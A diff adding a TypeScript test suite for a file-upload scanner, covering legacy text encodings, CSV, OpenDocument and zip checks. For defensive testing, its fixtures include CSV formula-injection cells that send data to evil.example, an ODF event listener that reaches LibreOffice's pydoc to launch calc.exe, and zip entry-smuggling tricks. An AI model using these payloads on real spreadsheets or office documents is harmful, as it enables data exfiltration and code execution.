@@ -1,0 +1,271 @@
+import { describe, expect, it } from 'vitest';
+import { buildPdf } from '../../../../test/fixtures/files/build-pdf.js';
+import { buildZip, type ZipInput } from '../../../../test/fixtures/files/build-zip.js';
+import { encodeLegacy } from '../../../../test/fixtures/files/encode-legacy.js';
+import { samples } from '../../../../test/fixtures/files/samples.js';
+import { parseScanPolicy, type ScanPolicy } from '../scan-policy.js';
+import { createBuiltinScanner } from './builtin-scanner.js';
+import { bytesSubject } from './bytes-subject.js';
+import { decodeText } from './decode-text.js';
+
+const scan = async (name: string, bytes: Uint8Array, policy?: ScanPolicy) => {
+  const engine = createBuiltinScanner(policy === undefined ? {} : { policy });
+  const result = await engine.scan(bytesSubject(name, bytes));
+  return {
+    ...result,
+    rules: result.findings.map((f) => f.rule),
+    details: result.findings.map((f) => f.detail),
+  };
+};
+
+// CVs as people write them, each in an encoding that is still common where it is used.
+const LEGACY: readonly [string, string][] = [
+  ['windows-1252', 'Résumé — José Müller, Zürich. Compétences : gestion de projet, français, allemand.'],
+  ['iso-8859-2', 'Životopis: Paweł Łukasiewicz, Kraków. Doświadczenie zawodowe i umiejętności.'],
+  ['shift_jis', '職務経歴書　山田太郎。営業として十年の経験があります。'],
+  ['euc-jp', '職務経歴書　山田太郎。営業として十年の経験があります。'],
+  ['iso-2022-jp', '職務経歴書　山田太郎。営業として十年の経験があります。'],
+  ['gbk', '个人简历：张伟。我在北京的公司工作了十年，负责市场和销售。'],
+  ['big5', '個人簡歷：陳大文。我在台北的公司工作了十年，負責市場和銷售。'],
+  ['euc-kr', '이력서: 김민수. 서울에서 십 년 동안 영업을 담당했습니다.'],
+  ['windows-1251', 'Резюме: Иван Петров. Опыт работы в продажах десять лет.'],
+  ['koi8-r', 'Резюме: Иван Петров. Опыт работы в продажах десять лет.'],
+];
+
+describe('text in every common encoding', () => {
+  it.each(LEGACY)('accepts a %s text file', async (encoding, text) => {
+    const r = await scan(
+      'cv.txt',
+      Buffer.concat([encodeLegacy(text, encoding), Buffer.from('\r\nExperience: 10 years\r\n')]),
+    );
+    expect(r.findings).toEqual([]);
+    expect(r.detectedType).toBe('text/plain');
+  });
+
+  it.each(LEGACY)('decodes %s as the text it is', (encoding, text) => {
+    expect(decodeText(encodeLegacy(text, encoding))?.text).toBe(text);
+  });
+
+  it('accepts a long CSV whose first pages are ASCII and a later row is in Windows-1252', async () => {
+    const rows = Array.from({ length: 5000 }, (_, i) => `${i},Tanaka,Sales,2020`).join('\r\n');
+    const csv = Buffer.concat([
+      Buffer.from(`id,name,dept,year\r\n${rows}\r\n`),
+      Buffer.from('5001,Jos\xe9,R&D,2021\r\n', 'latin1'),
+    ]);
+    const r = await scan('staff.csv', csv);
+    expect(r.kind).toBe('clean');
+  });
+
+  it('still refuses binary appended after a legacy-encoded head', async () => {
+    const head = encodeLegacy('職務経歴書。営業の経験があります。\n'.repeat(4000), 'euc-jp');
+    const r = await scan('cv.txt', Buffer.concat([head, samples.pe]));
+    expect(r.rules).toEqual(['text-binary-content']);
+  });
+
+  it.each([
+    ['a uuencoded program', 'begin 644 setup.exe\nM35J0``,````$````__\\``+@`````````0`\n`\nend\n'],
+    [
+      'a base64 program in a mail',
+      'Content-Transfer-Encoding: base64\n\nTVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\n',
+    ],
+    [
+      'a BinHex file',
+      '(This file must be converted with BinHex 4.0)\n:$f*TEQKPH#jdCA0d,R0TG!"6594%8dP8)3#3"!\n',
+    ],
+  ])('refuses %s named .txt', async (_what, text) => {
+    expect((await scan('notes.txt', Buffer.from(text))).rules).toEqual(['text-encoded-program']);
+  });
+
+  it.each([
+    ['=WEBSERVICE("http://evil.example/?"&A1)', 'WEBSERVICE'],
+    ['=HYPERLINK("http://evil.example/?"&A2,"click")', 'HYPERLINK'],
+    ['@IMPORTXML("http://evil.example","//a")', 'IMPORTXML'],
+  ])('refuses a CSV cell %s', async (formula, fn) => {
+    const r = await scan('list.csv', Buffer.from(`name,note\r\nTanaka,ok\r\nSato,${formula}\r\n`));
+    expect(r.rules).toEqual(['csv-formula-network']);
+    expect(r.details[0]).toContain(fn);
+  });
+
+  it('accepts the word hyperlink and a plain formula in a CSV', async () => {
+    const r = await scan(
+      'list.csv',
+      Buffer.from('name,note\r\nTanaka,see the hyperlink below\r\nSato,=SUM(A1:A3)\r\n'),
+    );
+    expect(r.kind).toBe('clean');
+  });
+});
+
+describe('names that tell the truth', () => {
+  it.each(['thesis.tex', 'macros.sty', 'refs.bib', 'README', 'notes.md', 'data.json', 'cv.rst'])(
+    'accepts text named %s',
+    async (name) => {
+      expect((await scan(name, samples.text)).kind).toBe('clean');
+    },
+  );
+
+  it.each(['notes.js', 'run.vbs', 'setup.bat', 'x.ps1', 'page.hta', 'tool.py'])(
+    'refuses text named %s, which runs when opened',
+    async (name) => {
+      expect((await scan(name, samples.text)).rules).toEqual(['runnable-name']);
+    },
+  );
+
+  it('says the type is not recognised, not that the name lies, for unknown binary named .txt', async () => {
+    const r = await scan('notes.txt', Buffer.from([0, 1, 2, 3, 0xff, 0xfe, 0, 0, 9, 8, 7]));
+    expect(r.rules).toEqual(['type-not-allowed']);
+    expect(r.details[0]).toContain('not a format the engine recognises');
+  });
+
+  it('names the type of a refused program in words', async () => {
+    const r = await scan('setup', samples.pe);
+    expect(r.details[0]).toContain('Windows program');
+  });
+
+  it('refuses an empty upload as empty', async () => {
+    const r = await scan('cv.pdf', new Uint8Array());
+    expect(r.findings.map((f) => [f.rule, f.detail])).toEqual([['empty-file', 'The file is empty.']]);
+  });
+});
+
+const MANIFEST =
+  '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/></manifest:manifest>';
+const content = (body: string) =>
+  `<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:scripts/><office:body><office:text>${body}</office:text></office:body></office:document-content>`;
+const odf = (mime: string, extra: ZipInput[] = [], body = '<text:p>Curriculum vitae</text:p>') =>
+  buildZip([
+    { name: 'mimetype', data: mime, method: 0 },
+    { name: 'content.xml', data: content(body) },
+    { name: 'styles.xml', data: '<?xml version="1.0"?><office:document-styles/>' },
+    { name: 'Thumbnails/thumbnail.png', data: samples.png },
+    { name: 'META-INF/manifest.xml', data: MANIFEST },
+    ...extra,
+  ]);
+
+describe('OpenDocument', () => {
+  it.each([
+    ['cv.odt', 'application/vnd.oasis.opendocument.text'],
+    ['budget.ods', 'application/vnd.oasis.opendocument.spreadsheet'],
+    ['talk.odp', 'application/vnd.oasis.opendocument.presentation'],
+    ['letter.ott', 'application/vnd.oasis.opendocument.text-template'],
+  ])('accepts %s and detects its type from the mimetype entry', async (name, mime) => {
+    const r = await scan(name, odf(mime));
+    expect(r.findings).toEqual([]);
+    expect(r.detectedType).toBe(mime);
+  });
+
+  it('accepts an embedded chart (a sub-document)', async () => {
+    const chart = [{ name: 'Object 1/content.xml', data: content('') }];
+    expect((await scan('cv.odt', odf('application/vnd.oasis.opendocument.text', chart))).kind).toBe('clean');
+  });
+
+  it.each([
+    ['Basic macros', [{ name: 'Basic/Standard/Module1.xml', data: '<script:module/>' }], ''],
+    ['a Python script', [{ name: 'Scripts/python/run.py', data: 'import os' }], ''],
+    [
+      'an event listener',
+      [],
+      '<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic"/>',
+    ],
+  ])('refuses a document with %s', async (_what, extra, body) => {
+    const r = await scan('cv.odt', odf('application/vnd.oasis.opendocument.text', extra, body || undefined));
+    expect(r.rules).toContain('office-macros');
+  });
+
+  it("accepts a wizard template whose event listener runs one of LibreOffice's own macros", async () => {
+    const listener =
+      '<office:event-listeners><script:event-listener script:language="ooo:StarBasic" script:event-name="office:new" script:macro-name="application:Template.Correspondence.Main"/></office:event-listeners>';
+    const r = await scan('fax.ott', odf('application/vnd.oasis.opendocument.text-template', [], listener));
+    expect(r.findings).toEqual([]);
+  });
+
+  it('accepts event listeners with empty addresses, which run nothing', async () => {
+    const body =
+      '<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href=""/>';
+    expect(
+      (await scan('letter.ott', odf('application/vnd.oasis.opendocument.text-template', [], body))).kind,
+    ).toBe('clean');
+  });
+
+  it.each([
+    ['a macro of the document', 'script:macro-name="document:Standard.Module1.Main"'],
+    [
+      'a Python script reached by path',
+      'xlink:href="vnd.sun.star.script:../../program/python-core/lib/pydoc.py$tempfilepager(1, calc.exe)?language=Python&amp;location=share"',
+    ],
+  ])('refuses an event listener that runs %s', async (_what, address) => {
+    const body = `<script:event-listener script:language="ooo:script" script:event-name="dom:mouseover" ${address}/>`;
+    const r = await scan('cv.odt', odf('application/vnd.oasis.opendocument.text', [], body));
+    expect(r.rules).toContain('office-macros');
+  });
+
+  it('accepts a section that names another section of the same document', async () => {
+    const body =
+      '<text:section text:name="A"><text:section-source text:section-name="MasterLabel"/></text:section>';
+    expect(
+      (await scan('card.ott', odf('application/vnd.oasis.opendocument.text-template', [], body))).kind,
+    ).toBe('clean');
+  });
+
+  it('refuses a document that carries a program', async () => {
+    const r = await scan(
+      'cv.odt',
+      odf('application/vnd.oasis.opendocument.text', [{ name: 'Object 2', data: samples.pe }]),
+    );
+    expect(r.rules).toContain('executable');
+  });
+
+  it('is refused by a policy that accepts only PDF', async () => {
+    const parsed = parseScanPolicy({ accept: ['application/pdf'] });
+    if (!('policy' in parsed)) throw new Error(parsed.problems.join());
+    const r = await scan('cv.odt', odf('application/vnd.oasis.opendocument.text'), parsed.policy);
+    expect(r.rules).toEqual(['type-not-allowed']);
+    expect(r.details[0]).toContain('OpenDocument text');
+    expect((await scan('cv.pdf', buildPdf(), parsed.policy)).kind).toBe('clean');
+  });
+});
+
+describe('zips judged as extractors see them', () => {
+  it('accepts empty entries and TeX sources with their own extensions', async () => {
+    const zip = buildZip([
+      { name: 'thesis/.keep', data: '' },
+      { name: 'thesis/main.tex', data: '\\documentclass{article}\n\\begin{document}Hi\\end{document}\n' },
+      { name: 'thesis/style.sty', data: '\\ProvidesPackage{style}\n' },
+      { name: 'thesis/cv.pdf', data: buildPdf() },
+    ]);
+    const r = await scan('thesis.zip', zip);
+    expect(r.findings).toEqual([]);
+  });
+
+  it('refuses an entry whose local header names another file than the directory', async () => {
+    const zip = buildZip([{ name: 'cv.pdf', localName: 'cv.exe', data: buildPdf() }]);
+    expect((await scan('a.zip', zip)).rules).toEqual(['zip-inconsistent']);
+  });
+
+  it('refuses two entries with one name', async () => {
+    const zip = buildZip([
+      { name: 'cv.pdf', data: buildPdf() },
+      { name: 'CV.pdf', data: buildPdf() },
+    ]);
+    expect((await scan('a.zip', zip)).rules).toEqual(['zip-duplicate-name']);
+  });
+
+  it('refuses an entry hidden between entries, which only a streaming extractor sees', async () => {
+    const hidden = buildZip([{ name: 'setup.exe', data: samples.pe }]);
+    const local = hidden.subarray(0, hidden.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])));
+    const zip = buildZip([
+      { name: 'cv.pdf', data: buildPdf() },
+      { name: 'photo.png', data: samples.png, prefix: local },
+    ]);
+    expect((await scan('a.zip', zip)).rules).toEqual(['zip-inconsistent']);
+  });
+
+  it('reports the configured entry limit, not what is left of it', async () => {
+    const many = Array.from({ length: 6 }, (_, i) => ({ name: `f${i}.txt`, data: 'x' }));
+    const outer = buildZip([
+      { name: 'a.zip', data: buildZip(many) },
+      { name: 'b.zip', data: buildZip(many) },
+    ]);
+    const r = await createBuiltinScanner({ maxEntries: 10 }).scan(bytesSubject('x.zip', outer));
+    expect(r.findings.map((f) => f.detail).join(' ')).toContain('10 entries, the limit');
+  });
+});
